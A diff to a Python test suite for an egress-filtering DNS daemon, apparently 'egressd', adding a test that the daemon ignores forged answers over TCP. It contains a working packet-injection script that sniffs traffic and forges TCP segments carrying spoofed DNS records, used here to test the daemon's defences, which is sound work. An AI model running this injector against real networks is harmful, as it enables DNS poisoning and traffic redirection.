@@ -231,6 +231,159 @@ def test_forged_upstream_answers_teach_nothing(lab, egressd, how, phase):
     assert name_of(0) not in names, names
 
 
+# An upstream that answers every UDP query truncated (TC, no records), so egressd asks again over
+# TCP, and answers over TCP only after `delay` seconds (a slow recursive resolver), with `real`.
+# argv: address, real answer, delay.
+SLOW_TCP_UPSTREAM = textwrap.dedent(r'''
+    import socket, struct, sys, threading, time
+    addr, real, delay = sys.argv[1], sys.argv[2], float(sys.argv[3])
+    def question_end(q):
+        i = 12
+        while q[i]:
+            i += 1 + q[i]
+        return i + 5
+    def answer(q, truncated):
+        end = question_end(q)
+        if truncated:
+            return q[:2] + b"\x83\x80\x00\x01\x00\x00\x00\x00\x00\x00" + q[12:end]
+        return (q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:end] + b"\xc0\x0c"
+                + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(real))
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.bind((addr, 53))
+    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    t.bind((addr, 53))
+    t.listen(16)
+    def udp():
+        while True:
+            q, peer = u.recvfrom(4096)
+            u.sendto(answer(q, True), peer)
+    def serve(c):
+        with c:
+            n = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
+            q = c.recv(n, socket.MSG_WAITALL)
+            time.sleep(delay)
+            a = answer(q, False)
+            c.sendall(struct.pack("!H", len(a)) + a)
+            c.recv(1)
+    threading.Thread(target=udp, daemon=True).start()
+    print("READY", flush=True)
+    while True:
+        c, _ = t.accept()
+        threading.Thread(target=serve, args=(c,), daemon=True).start()
+''')
+
+# A root process with only NET_RAW (Docker's default): sniffs eth0 (AF_PACKET) for egressd's
+# TCP exchange with the upstream, and as soon as egressd's query has gone out, answers it
+# from the upstream's address with the next sequence numbers, the query's ID and exact
+# question (0x20 case included) and A `forged`, over a raw socket: the segment goes to the
+# sandbox's own address, over lo. argv: upstream, sandbox address, forged, seconds.
+TCP_INJECT = textwrap.dedent(r'''
+    import json, socket, struct, sys, time
+    upstream, me, forged, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
+    up, mine = socket.inet_aton(upstream), socket.inet_aton(me)
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0003))  # both ways, no link header
+    sniff.bind(("eth0", 0))
+    sniff.settimeout(0.05)
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    def csum(b):
+        if len(b) % 2:
+            b += b"\0"
+        s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+        while s >> 16:
+            s = (s & 0xFFFF) + (s >> 16)
+        return ~s & 0xFFFF
+    def ts_option(tcp):
+        off, end = 20, (tcp[12] >> 4) * 4
+        while off < end:
+            kind = tcp[off]
+            if kind == 0:
+                break
+            if kind == 1:
+                off += 1
+                continue
+            if kind == 8:
+                return struct.unpack_from("!II", tcp, off + 2)
+            off += tcp[off + 1]
+        return None
+    print("READY", flush=True)
+    server_isn, server_ts, forged_n, seen, refused = {}, {}, 0, 0, 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            pkt = sniff.recv(65535)
+        except socket.timeout:
+            continue
+        if len(pkt) < 40 or pkt[0] >> 4 != 4 or pkt[9] != 6:
+            continue
+        ihl = (pkt[0] & 0xF) * 4
+        tcp = pkt[ihl:struct.unpack_from("!H", pkt, 2)[0]]
+        sport, dport, seq, ack = struct.unpack_from("!HHII", tcp)
+        flags = tcp[13]
+        data = tcp[(tcp[12] >> 4) * 4:]
+        if pkt[12:16] == up and sport == 53 and flags & 0x12 == 0x12:  # SYN-ACK to egressd
+            server_isn[dport] = seq
+            server_ts[dport] = ts_option(tcp)
+        elif pkt[16:20] == up and dport == 53 and len(data) > 14 and sport in server_isn:
+            seen += 1
+            q = data[2:]
+            i = 12
+            while q[i]:
+                i += 1 + q[i]
+            a = (q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5] + b"\xc0\x0c"
+                 + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(forged))
+            payload = struct.pack("!H", len(a)) + a
+            opts = b""
+            theirs, ours = server_ts[sport], ts_option(tcp)
+            if theirs and ours:
+                opts = b"\x01\x01\x08\x0a" + struct.pack("!II", theirs[0] + 1, ours[0])
+            hdr_len = 20 + len(opts)
+            seg = struct.pack("!HHIIBBHHH", 53, sport, server_isn[sport] + 1, seq + len(data), (hdr_len // 4) << 4,
+                              0x18, 65535, 0, 0) + opts + payload
+            pseudo = up + mine + struct.pack("!BBH", 0, 6, len(seg))
+            seg = seg[:16] + struct.pack("!H", csum(pseudo + seg)) + seg[18:]
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), 0, 0x4000, 64, 6, 0, up, mine)
+            try:
+                raw.sendto(ip + seg, (me, 0))
+            except PermissionError:  # a deny in chain output: the segment went nowhere
+                refused += 1
+            forged_n += 1
+            del server_isn[sport]
+    print(json.dumps({"queries_seen": seen, "forged": forged_n, "refused_locally": refused}))
+''')
+
+
+def test_egressds_tcp_exchange_with_the_upstream_takes_no_injected_answer(lab, egressd):
+    """egressd falls back to TCP when the upstream truncates. A sandbox process with NET_RAW sees
+    that exchange on eth0 (AF_PACKET) and answers egressd's query before the upstream does,
+    from the upstream's address, with the right sequence numbers, ID and question, and sends it
+    to the sandbox's own address, where egressd's socket is. That segment travels over lo in the
+    reply direction of egressd's flow; the ruleset must not let it reach egressd's socket (with
+    hostname pinning on, chain output and input let TCP replies of flows with ct mark 0 through
+    lo, for pinning's own resets: egressd's upstream flows must not look like those)."""
+    upstream, real = "198.51.100.98", WILD_V4
+    lab.internet.ip("addr", "add", f"{upstream}/32", "dev", "lo")
+    slow = lab.spawn([sys.executable, "-c", SLOW_TCP_UPSTREAM, upstream, real, "0.3"], netns=lab.internet,
+                     stdout=subprocess.PIPE)
+    assert labmod._read_line(slow, 10.0, "the slow upstream") == "READY"
+    lab.add_servers([FORGED_V4])
+    d = egressd(policy(upstream))
+    p = attacker(lab, TCP_INJECT, upstream, labmod.SANDBOX_V4, FORGED_V4, 4.0, caps=DOCKER_CAPS)
+    t = tok()
+    answers = []
+    for i in range(2):
+        r = lab.dns_query(f"h{i}.{t}.wild.example.org", timeout=3.0)
+        answers.append((r.outcome, r.rcode, r.addresses))
+    res = attacker_result(p)
+    print(f"\nTCP injection: {res}; answers {answers}")
+    assert res["forged"] >= 2, f"the attack never saw egressd's TCP query: {res}"
+    assert all(FORGED_V4 not in a for _, _, a in answers), f"an injected answer reached the client: {answers}"
+    assert all(a == [real] for _, _, a in answers), f"the upstream's answer did not arrive: {answers}"
+    assert FORGED_V4 not in learned_set(lab, 4), "egressd learned the injected address"
+    assert rejected(lab.tcp_connect(FORGED_V4, labmod.ECHO_PORT)), "the injected address is reachable"
+    assert d.running
+
+
 def test_ttl_of_2_pow_31_is_capped(lab, egressd):
     """An upstream (or whoever runs an allowed wildcard's zone) answers with TTL 2^31-1: the
     learned element lives dns.max_ttl (default 1 h) + 10 s, the client sees at most max_ttl, and a
